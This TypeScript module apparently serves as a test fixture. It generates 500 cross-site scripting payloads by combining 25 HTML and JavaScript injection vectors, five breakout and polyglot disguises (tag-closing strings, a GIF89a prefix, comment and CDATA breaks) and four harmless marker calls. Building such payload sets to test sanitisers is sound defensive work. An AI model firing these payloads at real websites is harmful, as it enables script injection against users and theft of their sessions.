const calls = ["executed('x')", 'executed(document.domain)', "alert('x')", "top.executed('x')"]

/** What runs a call, in the hands of whoever takes a text for a page. */
const vectors: readonly ((call: string) => string)[] = [
  (call) => `<img src=x onerror="wasHere=true;${call}">`,
  (call) => `<script>${call}</script>`,
  (call) => `<svg onload="${call}">`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<body onload="${call}">`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<details open ontoggle="${call}">`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call) => `<audio src=x onerror="${call}">`,
  (call) => `<object data="data:text/html,<script>${call}</script>"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (call) => `<link rel="stylesheet" href=x onerror="${call}">`,
  (call) => `<style onload="${call}"></style>`,
  (call) => `<marquee onstart="${call}">`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `<form><button formaction="javascript:${call}" autofocus onfocus="${call}">`,
  (call) => `<base href="javascript:${call}//"><a href="#">x</a>`,
  (call) => `<a href="javascript:${call}" id=x>x</a><script>x.click()</script>`,
  (call) => `<template><img src=x onerror="${call}"></template><img src=x onerror="${call}">`,
  (call) =>
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${call}</script></html>`,
  (call) => `<!doctype html><title>x</title><script type="module">${call}</script>`,
  (call) => `javascript:${call}`,
]

/** How it comes: to be sniffed, to break out of something, or in a disguise. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `\n\n\u2028${text}`,
  (text) => `"></textarea></title></script>${text}`,
  (text) => `GIF89a/*${text}*/=1`,
  (text) => `]]>--><!--x-->${text.replaceAll('<', '\t\n<')}`,
]

/** 25 ways in, 5 disguises, 4 things to call. */
export const payloads: readonly string[] = vectors.flatMap((vector) =>
  disguises.flatMap((disguise) => calls.map((call) => disguise(vector(call)))),
)
